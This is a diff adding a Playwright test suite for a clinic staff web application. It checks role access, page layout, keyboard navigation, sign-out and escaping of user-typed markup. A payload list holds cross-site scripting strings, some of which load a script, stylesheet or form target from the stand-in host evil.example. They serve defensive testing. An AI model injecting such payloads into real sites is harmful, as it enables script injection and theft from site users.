@@ -1,0 +1,247 @@
+"""The workbench in Chromium: every page by whom it is for, the acts with scripts and without, by keys, and
+with markup typed wherever text can be typed. Two hundred made-up cases stand in the queue.
+"""
+
+from collections.abc import Iterator
+from typing import Protocol
+
+import httpx
+import pytest
+from playwright.sync_api import Browser
+
+from tests.browser import probes
+from tests.browser.colleague import Colleague
+from tests.browser.conftest import PLENTY
+from tests.browser.html import complaints
+from tests.people import PAT, body
+from tests.server import Server, serving
+
+ALL = ("reviewer", "manager", "administrator", "auditor")
+WIDTHS = (1280, 768, 360)
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    '"><script src=//evil.example/x.js></script>',
+    "'onmouseover='alert(1)",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href='javascript:alert(1)'>call</a>",
+    "{{ 7 * 7 }}{% raw %}",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<form action='//evil.example'><button autofocus>go</button></form>",
+]
+
+
+@pytest.fixture(scope="module")
+def clinic(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    """A clinic with a full queue, whose staff need no second factor."""
+    settings = PLENTY | {"PRECONSULT_SECOND_FACTOR_ROLES": "", "PRECONSULT_CLINIC_NAME": "Seaside Clinic"}
+    with serving(tmp_path_factory.mktemp("clinic"), **settings) as running:
+        running.command("seed", "--count", "200", "--staff")
+        yield running
+
+
+class Staff(Protocol):
+    def __call__(self, *roles: str, scripts: bool = True, width: int = 1280) -> Colleague: ...
+
+
+@pytest.fixture
+def staff(browser: Browser, clinic: Server, request: pytest.FixtureRequest) -> Iterator[Staff]:
+    """People who come in, and fail the test when one has seen what no page may do."""
+    inside: list[Colleague] = []
+
+    def one(*roles: str, scripts: bool = True, width: int = 1280) -> Colleague:
+        email = f"p{abs(hash(request.node.name))}-{len(inside)}@clinic.example"
+        person = Colleague(browser, clinic, email, roles or ("reviewer",), scripts, width)
+        inside.append(person)
+        return person.come_in()
+
+    yield one
+    assert [told for person in inside for told in person.close()] == []
+
+
+def a_case(person: Colleague, number: int = 0) -> str:
+    """The address of a case in the queue of tests."""
+    person.go("/staff?test=1")
+    return str(person.page.locator("a.open").nth(number).get_attribute("href"))
+
+
+# --- refused ---------------------------------------------------------------------------------------
+
+
+def test_a_stranger_is_led_to_the_door_and_sees_nothing(browser: Browser, clinic: Server) -> None:
+    stranger = Colleague(browser, clinic, "nobody@clinic.example")
+    for path in ("/staff", "/staff/audit", "/staff/people", "/staff/dashboard", "/staff/export"):
+        stranger.go(path)
+        assert stranger.heading == "Sign in"
+    assert stranger.close() == []
+
+
+@pytest.mark.parametrize(
+    ("role", "refused"),
+    [
+        ("reviewer", ["/staff/audit", "/staff/people", "/staff/export", "/staff/keys", "/staff/system"]),
+        ("administrator", ["/staff/audit", "/staff/export", "/staff/articles/x"]),
+        ("auditor", ["/staff/people", "/staff/export", "/staff/keys", "/staff/articles/x"]),
+    ],
+)
+def test_a_page_that_is_not_for_a_role_says_so_and_shows_nothing(
+    staff: Staff, role: str, refused: list[str]
+) -> None:
+    person = staff(role)
+    for path in refused:
+        person.go(path)
+        assert person.page.locator("table, form:not(.out)").count() <= 1
+        assert "permission" in person.words.lower() or "role" in person.words.lower(), path
+
+
+# --- every page ------------------------------------------------------------------------------------
+
+
+def test_every_page_reads_well_at_every_width_and_keeps_nobody_out(staff: Staff) -> None:
+    person = staff(*ALL)
+    case = a_case(person, 2)
+    pages = {
+        "queue": "/staff?test=1",
+        "queue, empty": "/staff?state=closed&language=ht",
+        "case": case,
+        "correct": f"{case}/correct",
+        "corrections": f"{case}/corrections",
+        "erase": f"{case}/erase",
+        "article": "/staff/articles/ketamine-everything-to-know",
+        "dashboard": "/staff/dashboard?test=1&days=30",
+        "dashboard, empty": "/staff/dashboard?days=7",
+        "audit": "/staff/audit",
+        "access": f"/staff/audit/access/{case.rsplit('/', 1)[1]}",
+        "people": "/staff/people",
+        "account": "/staff/account",
+        "export": "/staff/export",
+        "keys": "/staff/keys",
+        "system": "/staff/system",
+        "nothing": "/staff/cases/nothing",
+    }
+    amiss: dict[str, list[str]] = {}
+    html: dict[str, str] = {}
+    for name, path in pages.items():
+        with person.page.expect_response(lambda answer: answer.request.is_navigation_request()) as sent:
+            person.go(path)
+        html[name] = sent.value.text()
+        for details in person.page.locator("details > summary").all():
+            details.click() if details.is_visible() else None
+        for width in WIDTHS:
+            person.page.set_viewport_size({"width": width, "height": 900})
+            if width != 360:
+                person.picture(f"{name.replace(', ', '-')}-{width}")
+            found = probes.violations(person.page) if width != 768 else []
+            found += [f"{width}: {told}" for told in probes.sideways(person.page)]
+            amiss |= {f"{name} {width}": found} if found else {}
+        person.page.set_viewport_size({"width": 1280, "height": 900})
+    assert amiss == {}
+    told = complaints(html)
+    assert not told, "\n".join(told)
+
+
+# --- the acts --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "plain"])
+def test_a_case_is_taken_looked_at_called_about_and_closed(staff: Staff, scripts: bool) -> None:
+    person = staff("reviewer", scripts=scripts)
+    person.go("/staff?test=1&state=new")
+    row = person.page.locator("tr[data-case]:has(form.take)").nth(4 if scripts else 9)
+    address = row.locator("a.open").get_attribute("href")
+    with person.page.expect_navigation():
+        row.locator("form.take button").click()
+    person.go(str(address))
+    if person.page.get_by_role("button", name="Start the review").count():
+        person.press("Start the review")
+    assert "Review: In review" in person.words
+    person.press("Show contact details")
+    assert "It goes on record" not in person.page.inner_text("section[aria-labelledby=contact]")
+    person.go(str(address))
+    person.page.fill("#text", "Called; will call again on Monday.")
+    person.press("Keep the note")
+    assert "Called; will call again on Monday." in person.words
+    while person.page.get_by_role("button", name="Close the flag").count():
+        person.press("Close the flag")
+    person.press("Ready for the visit")
+    assert "Review: Ready" in person.words
+    person.page.locator("details summary", has_text="History").click()
+    assert "looked" in person.words.lower() or "viewed" in person.words.lower()
+
+
+@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "plain"])
+def test_two_at_once_are_told_and_nobodys_words_are_lost(staff: Staff, scripts: bool) -> None:
+    one, other = staff("reviewer", scripts=scripts), staff("reviewer", scripts=scripts)
+    address = a_case(one, 20)
+    one.go(address)
+    other.go(address)
+    one.page.fill("#text", "Spoke with the mother.")
+    one.press("Keep the note")
+    other.page.fill("#text", "A line of my own.")
+    other.press("Keep the note")
+    assert "Spoke with the mother." in other.words or "changed" in other.words.lower()
+    assert "A line of my own." in other.words or other.page.locator("textarea").input_value()
+
+
+def test_the_queue_is_worked_by_keys(staff: Staff) -> None:
+    person = staff("reviewer")
+    person.go("/staff?test=1")
+    first, second = (str(person.page.locator("a.open").nth(each).get_attribute("href")) for each in (0, 1))
+    at = "document.activeElement.getAttribute('href')"
+    for keys, expected in (("j", first), ("j", second), ("k", first)):
+        person.page.keyboard.press(keys)
+        assert person.page.evaluate(at) == expected
+    person.page.keyboard.press("?")
+    assert person.page.locator("#keys").get_attribute("open") is not None
+    person.page.keyboard.press("k")
+    person.go("/staff?test=1")
+    person.page.keyboard.press("j")
+    with person.page.expect_navigation():
+        person.page.keyboard.press("Enter")
+    assert person.page.url.endswith(first)
+    person.page.go_back()
+    assert person.heading == "Queue"
+
+
+def test_signing_out_ends_it_and_the_back_button_shows_nothing(staff: Staff) -> None:
+    person = staff("reviewer")
+    person.go(a_case(person))
+    person.press("Sign out", within="header")
+    person.page.go_back()
+    assert "Sign in" in person.page.inner_text("body") or person.heading == "Sign in"
+    assert "Call script" not in person.page.inner_text("body")
+
+
+# --- hostile words ---------------------------------------------------------------------------------
+
+
+def test_markup_that_anybody_types_is_text_to_everybody(staff: Staff, clinic: Server) -> None:
+    person = staff(*ALL)
+    key = clinic.key("submissions:write", "review", test=True)
+    headers = {"authorization": f"Bearer {key}"}
+    contact = {"name": PAYLOADS[0], "phone": "+1 561 555 0142", "email": "pat@example.org"}
+    sent = body(PAT, contact=contact)
+    made = httpx.post(f"{clinic.url}/v1/submissions", json=sent, headers=headers).json()
+    person.go(f"/staff/cases/{made['id']}")
+    for payload in PAYLOADS:
+        person.page.fill("#text", payload)
+        person.press("Keep the note")
+        assert payload in person.words
+    person.press("Show contact details")
+    assert PAYLOADS[0] in person.words
+    person.go("/staff?test=1")
+    person.page.locator("details summary", has_text="Views").click()
+    person.page.fill("#name", PAYLOADS[1])
+    person.press("Keep")
+    assert PAYLOADS[1] in person.page.inner_text("body")
+    person.go("/staff/people")
+    person.page.fill("[name=name]", PAYLOADS[2])
+    person.page.fill("[name=email]", "markup@clinic.example")
+    person.page.check("[name=role][value=reviewer]")
+    person.press("Add and make a link")
+    person.go("/staff/people")
+    assert PAYLOADS[2] in person.words
+    assert person.page.locator("main script, main iframe, main img, main svg:not(.chart)").count() == 0
